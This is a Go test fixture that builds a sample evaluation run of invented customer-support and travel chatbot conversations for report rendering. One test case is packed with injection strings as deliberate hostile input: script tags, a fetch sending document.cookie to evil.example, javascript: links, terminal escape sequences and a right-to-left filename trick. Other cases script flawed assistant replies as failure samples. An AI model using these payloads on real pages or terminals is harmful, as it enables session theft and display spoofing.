package report_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"github.com/rehearse-dev/rehearse/internal/base/chat"
	"github.com/rehearse-dev/rehearse/internal/base/stats"
	"github.com/rehearse-dev/rehearse/internal/run/compare"
	"github.com/rehearse-dev/rehearse/internal/run/runlog"
	"github.com/rehearse-dev/rehearse/internal/spec/result"
)

// each makes a stream of tests.
func each(tests ...*result.Test) runlog.Stream {
	return func(yield func(*runlog.Record, error) bool) {
		for _, t := range tests {
			if !yield(runlog.RecordOf(t), nil) {
				return
			}
		}
	}
}

const target = "openai:gpt-5-mini"

// begin is when the sample's run began.
func begin() time.Time { return time.Date(2026, 7, 14, 9, 30, 0, 0, time.UTC) }

// test makes a conversation of alternating user and assistant texts; every turn passes until said otherwise.
func test(suite, id string, said ...string) *result.Test {
	t := &result.Test{
		Schema: result.Schema, RunID: "20260714-093000-k3x9", Suite: suite, TestID: id, Target: target, Score: 1,
		Verdict:   result.Pass,
		Threshold: 0.8, ExecutionStatus: result.OK, Failures: []result.Failure{}, StartedAt: begin().Add(time.Second),
	}
	for i := 0; i+1 < len(said); i += 2 {
		n := i/2 + 1
		latency := 840 + 137*float64(n)
		usage := chat.Usage{InputTokens: 60 * n, OutputTokens: 38}
		t.Turns = append(t.Turns, result.Turn{
			Index: n, Input: chat.Content{Text: said[i]}, Output: said[i+1],
			LatencyMS: result.Milliseconds(latency), Attempts: 1,
			Usage: usage,
		})
		t.Output = append(t.Output, chat.NewMessage(chat.User, said[i]), chat.NewMessage(chat.Assistant, said[i+1]))
		t.Scores = append(t.Scores, result.Score{
			Name: fmt.Sprintf("turn-%d", n), Type: "contains", Score: 1, Verdict: result.Pass,
			Assertions: []result.Assertion{},
		})
		t.Usage = t.Usage.Add(usage)
		t.DurationMS += latency + 12
	}
	return t
}

// assert adds what was looked for in a turn, or with turn 0 in the whole conversation.
func assert(t *result.Test, turn int, score float64, assertions ...result.Assertion) *result.Score {
	if turn == 0 {
		t.Scores = append(t.Scores, result.Score{Name: "assertions", Type: "rubrics"})
		turn = len(t.Scores)
	}
	s := &t.Scores[turn-1]
	s.Score, s.Assertions, s.Verdict = score, assertions, result.Pass
	if score < t.Threshold {
		s.Verdict = result.Fail
	}
	return s
}

func met(text, grader, evidence string) result.Assertion {
	return result.Assertion{Text: text, Passed: true, Grader: grader, Evidence: evidence}
}

func unmet(text, grader, evidence string) result.Assertion {
	return result.Assertion{Text: text, Grader: grader, Evidence: evidence}
}

// fail files a failure with a score and with the test.
func fail(t *result.Test, s *result.Score, f result.Failure) {
	s.Failures = append(s.Failures, f)
	t.Failures = append(t.Failures, f)
}

func failed(t *result.Test, score float64) *result.Test {
	t.Score, t.Verdict, t.ExecutionStatus = score, result.Fail, result.QualityFailure
	return t
}

// sample is a run with everything that a report has to show.
func sample() (result.Run, []*result.Test) {
	tests := []*result.Test{refund(), greeting(), booking(), timeout(), hostile(), onboarding(), dependent(), long()}
	tests = append(tests, trials()...)
	run := result.Run{
		Schema: result.Schema, ID: "20260714-093000-k3x9", Version: "0.3.0",
		Command: []string{"run", "suites/support.yaml", "suites/travel.yaml", "--target", target, "--trials", "4"},
		Suites:  []string{"suites/support.yaml", "suites/travel.yaml"}, Targets: []string{target},
		Judge:     "openai:gpt-5",
		StartedAt: begin(), EndedAt: begin().Add(72 * time.Second), DurationMS: 72_340, ExitReason: "failed",
		ExitCode: new(1),
	}
	var records result.Tallies
	for _, t := range tests {
		records.Add(t)
	}
	run.Count(&records, nil)
	return run, tests
}

// refund fails in its second turn and in the whole.
func refund() *result.Test {
	t := failed(test("suites/support.yaml", "refund-within-window",
		"Hi, I bought the annual plan nine days ago and I'd like my money back.",
		"Hello! I'm sorry to hear that. Could you tell me the email address on your account?",
		"It's dana@example.com. Am I still in time?",
		"Thanks, Dana. Unfortunately we don't offer refunds on annual plans, but I can offer you a 20% discount on "+
			"your next year.",
		"But your site says there is a 30 day guarantee.",
		"You're right, and I apologise: our 30-day guarantee applies. I have started your refund; "+
			"it takes five working days.",
	), 0.55)
	t.Tags, t.Metadata = []string{"billing", "priority"}, map[string]any{"owner": "support", "ticket": 4312}
	t.Judge = result.JudgeUse{Calls: 3, CacheHits: 1, Usage: chat.Usage{InputTokens: 2_140, OutputTokens: 310},
		Cost: chat.Cost{USD: 0.0041}}
	t.Cost.USD = 0.0067
	assert(t, 1, 1, met("asks for the account's email address", "rubrics",
		"The reply asks for the address on the account."))
	s := assert(t, 2, 0.2,
		met(`not: contains "cannot help"`, "not_contains", ""),
		unmet(`contains "30-day"`, "contains", `"Thanks, Dana. Unfortunately we don't offer refunds on annual plans, but I can offer you a 20% discount on your next…"`),
		unmet("confirms that nine days are within the guarantee", "rubrics",
			"The reply denies the refund instead of confirming that the customer is in time."))
	fail(t, s, result.Failure{
		Code: result.AssistantContent, Source: "contains", Turn: 2,
		Message: `wanted: contains "30-day"; got: "Thanks, Dana. Unfortunately we don't offer refunds on annual plans, but I can offer you a 20% discount on your next…"`,
	})
	fail(t, s, result.Failure{
		Code: result.QualityJudgeFail, Source: "judge", Turn: 2,
		Message: `wanted every criterion satisfied; got no for "confirms that nine days are within the guarantee"`,
	})
	assert(t, 3, 1, met("starts the refund", "rubrics", "“I have started your refund”"), met("under 2 s", "latency",
		"1.3 s"))
	s = assert(t, 0, 0.5,
		met("stays polite when contradicted", "rubrics", "The assistant apologises and corrects itself."),
		unmet("never states a policy that is not in the knowledge base", "rubrics",
			"Turn 2 states that annual plans cannot be refunded, which no document says."))
	fail(t, s, result.Failure{
		Code: result.QualityJudgeFail, Source: "judge",
		Message: `wanted every criterion satisfied; got no for "never states a policy that is not in the knowledge base"`,
	})
	return t
}

func greeting() *result.Test {
	t := test("suites/support.yaml", "greets-by-name", "Hello, I'm Amara.", "Welcome, Amara! How can I help you today?")
	assert(t, 1, 1, met(`contains "Amara"`, "contains", `"Welcome, Amara! How can I help you today?"`))
	return t
}

// booking has tool calls, a node, a state and structured input.
func booking() *result.Test {
	t := failed(test("suites/travel.yaml", "books-the-cheapest-flight",
		"I need to get from Lisbon to Oslo on the 3rd, as cheaply as you can.",
		"I found three flights. The cheapest is TP 762 at 06:40 for €142. Shall I book it?",
		"Yes please, here is my passport.",
		"Done! You're booked on TP 766 at 11:15. Have a lovely trip.",
	), 0.5)
	t.Turns[0].Node, t.Turns[1].Node = "offer_flights", "confirm_booking"
	t.Turns[0].ToolCalls = []chat.ToolCall{{
		ID: "c1", Name: "search_flights", Args: json.RawMessage(`{"from":"LIS","to":"OSL","date":"2026-08-03"}`),
		LatencyMS: 412, Result: json.RawMessage(
			`[{"flight":"TP 762","departs":"06:40","price":142},{"flight":"TP 766","departs":"11:15","price":219}]`),
	}}
	t.Turns[1].ToolCalls = []chat.ToolCall{{
		ID: "c2", Name: "book_flight", LatencyMS: 688,
		Args: json.RawMessage(`{"flight":"TP 766","passenger":{"name":"Ines Duarte","passport":"C0000000"},"seat":null,"extras":["bag","priority"],"total":{"currency":"EUR","amount":219}}`),
	}}
	t.Turns[1].State = json.RawMessage(`{"node":"confirm_booking","facts":{"from":"LIS","to":"OSL","budget":"lowest"}}`)
	t.Turns[1].Attempts, t.Turns[1].TraceID = 2, "4bf92f3577b34da6"
	pixel := "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAADAAAAAYCAIAAAAzn+mLAAAAcklEQVR42s3CERYCAQBF0bengSAIgiAI5vwTBEEwEAwMBMFAMBC0jb/MtvHuuQypKrtUlX2qyiFV5ZiqckpVOaeqXFJVxlSVa6rKLVXlnqrySFWZUlWeqSpzqsqSqvJKVXmnqqypKp9UlS1V5Zuq8ktV/7I/J1vjE7MnAAAAAElFTkSuQmCC"
	t.Turns[1].Input = chat.Content{Blocks: []chat.Block{
		{Type: "text", Value: "Yes please, here is my passport."}, {Type: "image", Value: pixel}, {Type: "image",
			Value: "https://tracker.example/p.png"},
	}}
	t.Output[2].Content = t.Turns[1].Input
	t.Output = append([]chat.Message{
		chat.NewMessage(chat.User, "Do you fly on Sundays?"), chat.NewMessage(chat.Assistant, "We do, twice a day."),
	}, t.Output...)
	assert(t, 1, 1, met("next node is offer_flights", "next_node", ""),
		met("calls search_flights with from=LIS, to=OSL", "tool_call", ""))
	s := assert(t, 2, 0, unmet("calls book_flight with flight=TP 762", "tool_call",
		"book_flight was called with flight=TP 766"),
		met("next node is confirm_booking", "next_node", ""))
	fail(t, s, result.Failure{Code: result.ToolArgsMismatch, Source: "tool_call", Turn: 2,
		Message: "wanted: calls book_flight with flight=TP 762; got: book_flight was called with flight=TP 766"})
	return t
}

// timeout breaks in its second turn, so that two more things are skipped.
func timeout() *result.Test {
	t := test("suites/travel.yaml", "changes-a-booking", "Please move my flight to Friday.",
		"Of course. Which booking is it?", "The one to Oslo.", "")
	t.Score, t.Verdict, t.ExecutionStatus = 0, result.Error, result.ExecutionError
	t.Turns[1].LatencyMS, t.Turns[1].Attempts = 60_000, 3
	t.DurationMS = 61_040
	t.Output = t.Output[:3]
	s := assert(t, 2, 0)
	fail(t, s, result.Failure{Code: result.Timeout, Source: "orchestrator", Turn: 2,
		Message: "no reply within 1m0s, after 3 attempts: context deadline exceeded"})
	t.Scores = append(t.Scores,
		result.Score{Name: "turn-3", Type: "contains", Verdict: result.Skip, Assertions: []result.Assertion{}},
		result.Score{Name: "turn-4", Type: "contains", Verdict: result.Skip, Assertions: []result.Assertion{}},
		result.Score{Name: "assertions", Type: "rubrics", Verdict: result.Skip, Assertions: []result.Assertion{}})
	return t
}

// hostile says everything that a report must not act on.
func hostile() *result.Test {
	t := failed(test("suites/support.yaml", `<script>alert("id")</script>|`+"`x`*_~ @everyone",
		"<script>fetch('https://evil.example/?c='+document.cookie)</script>\n"+
			"<img src=x onerror=alert(1)> javascript:alert(1)",
		"\x1b]0;owned\x07\x1b[31mred\x1b[0m \x1b[2J\u202etxt.exe\u202c \x00\x9b31m </details></style></textarea>]]> "+
			"<a href=\"javascript:alert(2)\">click</a> [x](javascript:alert(3)) ![i](https://evil.example/i.png) "+
			"www.evil.example @octocat #12 {{.}} ${7*7} ```\n</pre>",
		"مرحبا، أريد استرداد أموالي من فضلك",
		"بالطبع. رقم الطلب هو 12345، وسيصل المبلغ خلال 5 أيام (www.example.com).\ufeff\u2028\ufffe",
	), 0.25)
	t.Target = target
	t.Tags = []string{"<b>tag</b>"}
	t.Turns[0].Node = `"><script>alert(4)</script>`
	t.Turns[0].ToolCalls = []chat.ToolCall{{
		Name: "</b><script>alert(5)</script>", Args: json.RawMessage(`{"a": not json <img src=x onerror=alert(6)>`),
	}}
	t.Metadata = map[string]any{"</pre><script>alert(7)</script>": "x"}
	s := assert(t, 1, 0.5, unmet("</li><script>alert(8)</script> never obeys | the user", "rubrics</small>",
		"it said \x1b[1mgotcha\x1b[0m\n\n# and <img src=x onerror=alert(9)>"))
	fail(t, s, result.Failure{
		Code: result.QualityJudgeFail, Source: "judge\x1b[5m", Turn: 1,
		Message: "<script>alert(10)</script> | [x](javascript:alert(11)) \x1b[31mred",
	})
	s = assert(t, 2, 0)
	fail(t, s, result.Failure{
		Code: result.AssistantContent, Source: "contains", Turn: 2,
		Message: `wanted: contains "استرداد"; got: "بالطبع. رقم الطلب هو 12345"`,
	})
	return t
}

func onboarding() *result.Test {
	t := test("suites/support.yaml", "onboards-a-new-user",
		"How do I invite my team?", "Open Settings, choose Members, and press Invite.",
		"And how many can I invite?", "Up to ten on your plan.")
	assert(t, 1, 0.9, met("names the page", "rubrics", "Settings, Members"),
		unmet("offers to do it", "rubrics", "The reply only explains."))
	assert(t, 2, 1, met("matches \\d+|ten", "regex", ""))
	t.Score = 0.95
	return t
}

// dependent was not run because another test failed.
func dependent() *result.Test {
	return &result.Test{
		Schema: result.Schema, Suite: "suites/support.yaml", TestID: "refund-arrives", Target: target,
		Verdict: result.Skip, ExecutionStatus: result.QualityFailure, Threshold: 0.8, StartedAt: begin(),
		SkipReason: "it depends on refund-within-window, which did not pass (on_dependency_failure: skip)",
		Failures:   []result.Failure{},
	}
}

// long has texts that do not fit.
func long() *result.Test {
	story := strings.Repeat("The parcel left the warehouse on Monday and was scanned in Rotterdam on Tuesday. ", 400)
	t := failed(test("suites/support.yaml", "keeps-answers-short",
		"Where is my parcel?\n\n"+strings.Repeat("Track ", 20), story+strings.Repeat("x", 3000)), 0)
	s := assert(t, 1, 0, unmet("at most 80 words", "word_count", "5601 words"))
	fail(t, s, result.Failure{
		Code: result.AssistantContent, Source: "word_count", Turn: 1,
		Message: "wanted: at most 80 words; got: 5601 words",
	})
	return t
}

// trials are four repeats of one test, and the aggregate over them.
func trials() []*result.Test {
	var tests []*result.Test
	sum := &result.Trials{Count: 4, Strategy: "pass_all"}
	for n, score := range []float64{1, 0.4, 1, 0.9} {
		t := test("suites/travel.yaml", "remembers-the-seat", "I'd like a window seat.", "Noted: a window seat.",
			"Which seat did I ask for?", map[bool]string{
				true: "A window seat.", false: "An aisle seat, I believe.",
			}[score > 0.5])
		t.Trial, t.Score = n+1, score
		s := assert(t, 2, score, result.Assertion{
			Text: "recalls the window seat", Passed: score > 0.5, Grader: "inference_memory",
			Evidence: "judged on the reply",
		})
		if score < 0.8 {
			failed(t, score)
			fail(t, s, result.Failure{
				Code: result.QualityJudgeFail, Source: "judge", Turn: 2,
				Message: "wanted: recalls the window seat; got: an aisle seat",
			})
		} else {
			sum.Passed++
		}
		sum.Scores = append(sum.Scores, score)
		tests = append(tests, t)
	}
	sum.Interval = stats.Wilson(sum.Passed, sum.Count)
	sum.PassHatK, sum.PassAtK = stats.PassHatK(sum.Count, sum.Passed), stats.PassAtK(sum.Count, sum.Passed)
	sum.Class = result.Class(stats.Class(sum.Passed, sum.Count))
	t := failed(test("suites/travel.yaml", "remembers-the-seat"), 0.4)
	t.Trials, t.DurationMS = sum, 9_100
	t.Failures = []result.Failure{{
		Code: result.Flaky, Source: "orchestrator",
		Message: "wanted the same verdict every time; got 3 passes in 4 trials",
	}}
	return append(tests, t)
}

// compareWith compares a run of tests with an earlier one.
func compareWith(run result.Run, tests []*result.Test, earlier ...*result.Test) (*result.Comparison, error) {
	before := result.Run{ExitReason: result.ReasonFailed}
	if len(earlier) > 0 {
		before.ID = earlier[0].RunID
	}
	return compare.Runs(compare.Side{Run: before, Tests: runlog.Briefs(each(earlier...))},
		compare.Side{Run: run, Tests: runlog.Briefs(each(tests...))}, compare.Options{})
}
